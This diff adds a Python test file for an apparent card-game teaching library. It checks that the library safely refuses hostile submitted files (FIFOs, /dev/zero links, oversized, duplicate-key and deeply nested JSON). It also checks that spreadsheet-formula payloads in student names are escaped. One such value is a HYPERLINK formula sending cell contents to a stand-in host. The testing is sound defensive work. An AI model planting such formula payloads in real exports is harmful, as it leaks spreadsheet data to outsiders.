@@ -1,0 +1,148 @@
+"""Files a student or a stranger hands in: read with bounds (regular files only, size checked before
+reading), duplicate JSON keys refused, and nothing from them reaching a spreadsheet as a formula."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import threading
+import time
+from pathlib import Path
+
+import pytest
+
+from hearts_lab import Game, Hand, RecordError, Rules
+from hearts_lab.exercises import merge_results
+from hearts_lab.exercises.results import FORMAT, ResultsFileError, read_results, spreadsheet_safe
+from hearts_lab.records import MAX_HAND_RECORD, read_record_file
+from hearts_lab.widgets.stepper import load_hand
+
+RULES = Rules.preset("standard", players=4)
+
+
+def _within(seconds: float, call):
+    """Run ``call`` in a daemon thread; fail (instead of hanging the suite) if it has not returned in time."""
+    box: dict[str, object] = {}
+
+    def run():
+        try:
+            box["value"] = call()
+        except BaseException as error:  # noqa: BLE001 - handed back to the test
+            box["error"] = error
+
+    thread = threading.Thread(target=run, daemon=True)
+    thread.start()
+    thread.join(seconds)
+    assert not thread.is_alive(), f"still running after {seconds} s"
+    if "error" in box:
+        raise box["error"]  # type: ignore[misc]
+    return box.get("value")
+
+
+def _special_files(tmp_path: Path) -> list[Path]:
+    fifo = tmp_path / "pipe.json"
+    os.mkfifo(fifo)
+    zero = tmp_path / "zero.json"
+    zero.symlink_to("/dev/zero")
+    folder = tmp_path / "folder.json"
+    folder.mkdir()
+    return [fifo, zero, folder]
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs FIFOs")
+def test_record_files_that_never_end_are_refused_at_once(tmp_path):
+    for path in _special_files(tmp_path):
+        for source in (path, str(path)):
+            with pytest.raises(RecordError, match="not a regular file"):
+                _within(5, lambda: load_hand(source))
+        with pytest.raises(RecordError, match="not a regular file"):
+            _within(5, lambda: read_record_file(path, "game record", 1024))
+
+
+def test_a_record_file_over_the_limit_is_refused_before_it_is_read(tmp_path):
+    big = tmp_path / "big.json"
+    with big.open("wb") as handle:
+        handle.truncate(MAX_HAND_RECORD + 1)  # a sparse file: refusing it must not read it
+    with pytest.raises(RecordError, match="limit") as refused:
+        load_hand(big)
+    assert refused.value.field == "size"
+
+
+def _hand_record() -> dict:
+    return json.loads(Hand.deal(RULES, seed=3).to_json())
+
+
+def test_duplicate_keys_are_refused_in_hand_and_game_records():
+    text = Hand.deal(RULES, seed=3).to_json()
+    doubled = text.replace('"seed":', '"seed": 99, "seed":', 1)
+    assert doubled != text
+    with pytest.raises(RecordError, match="appears twice"):
+        Hand.from_json(doubled)
+    game = Game(RULES, seed=1).to_json()
+    with pytest.raises(RecordError, match="appears twice"):
+        Game.from_json(game.replace("{", '{"format": "x", ', 1))
+
+
+def test_the_nesting_check_is_linear():
+    start = time.process_time()
+    for text in ('"' + '\\"' * 120_000, "[" * 120_000, '["a",' * 50_000):
+        with pytest.raises(RecordError):
+            Hand.from_json(text)
+    assert time.process_time() - start < 1.0  # the old pre-scan took 11.5 s for 64 KB of the first
+
+
+# -- results files ---------------------------------------------------------------------------------
+
+
+def _results(student: str = "Ada", worksheet: str = "ws1") -> dict:
+    return {"format": FORMAT, "worksheet": worksheet, "student": student, "exported": "2026-01-01T00:00:00+00:00",
+            "questions": [{"question": "Q1", "title": "t", "status": "correct", "attempts": 1}]}
+
+
+def test_hostile_results_files_are_skipped_with_a_reason(tmp_path):
+    good = _results()
+    (tmp_path / "good.json").write_text(json.dumps(good), encoding="utf-8")
+    (tmp_path / "two_students.json").write_text(json.dumps(good)[:-1] + ', "student": "Eve"}', encoding="utf-8")
+    (tmp_path / "digit.json").write_text(json.dumps(_results("Bo", "ws\u0663")), encoding="utf-8")
+    (tmp_path / "nested.json").write_text("[" * 200_000, encoding="utf-8")
+    (tmp_path / "digits.json").write_text(json.dumps(good).replace('"attempts": 1', '"attempts": ' + "9" * 5000), encoding="utf-8")
+    (tmp_path / "field.csv").write_text("format,worksheet\n" + '"' + "x" * 200_000 + '",ws1\n', encoding="utf-8")
+    (tmp_path / "huge.json").write_bytes(b" " * (300 * 1024))
+    if hasattr(os, "mkfifo"):
+        os.mkfifo(tmp_path / "pipe.json")
+    table = _within(10, lambda: merge_results(tmp_path))
+    assert [row["student"] for row in table.rows] == ["Ada"]
+    reasons = dict(table.skipped)
+    assert set(reasons) == {"two_students.json", "digit.json", "nested.json", "digits.json", "field.csv", "huge.json"}
+    assert "appears twice" in reasons["two_students.json"] and "worksheet" in reasons["digit.json"]
+    assert "nests deeper" in reasons["nested.json"] and "digits" in reasons["digits.json"]
+    assert "limit" in reasons["huge.json"]
+    for path in ("nested.json", "field.csv"):
+        with pytest.raises(ResultsFileError):
+            read_results(tmp_path / path)
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"Ada")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"])
+def test_a_formula_in_a_student_name_reaches_the_spreadsheet_as_text(tmp_path, name):
+    for fmt in ("json", "csv"):
+        folder = tmp_path / fmt
+        folder.mkdir()
+        if fmt == "json":
+            (folder / "x.json").write_text(json.dumps(_results(name)), encoding="utf-8")
+        else:
+            with (folder / "x.csv").open("w", newline="", encoding="utf-8") as handle:
+                writer = csv.writer(handle)
+                writer.writerow(["format", "worksheet", "student", "exported", "question", "title", "status", "attempts"])
+                writer.writerow([FORMAT, "ws1", name, "t", "Q1", "t", "correct", "1"])
+        table = merge_results(folder)
+        assert [row["student"] for row in table.rows] == ["'" + name]
+        out = table.to_csv(folder / "class.csv")
+        with out.open(newline="", encoding="utf-8") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
+
+
+def test_spreadsheet_safe_leaves_ordinary_text_alone():
+    assert spreadsheet_safe("Ada Lovelace") == "Ada Lovelace" and spreadsheet_safe("") == ""
+    assert spreadsheet_safe("'=1") == "'=1"
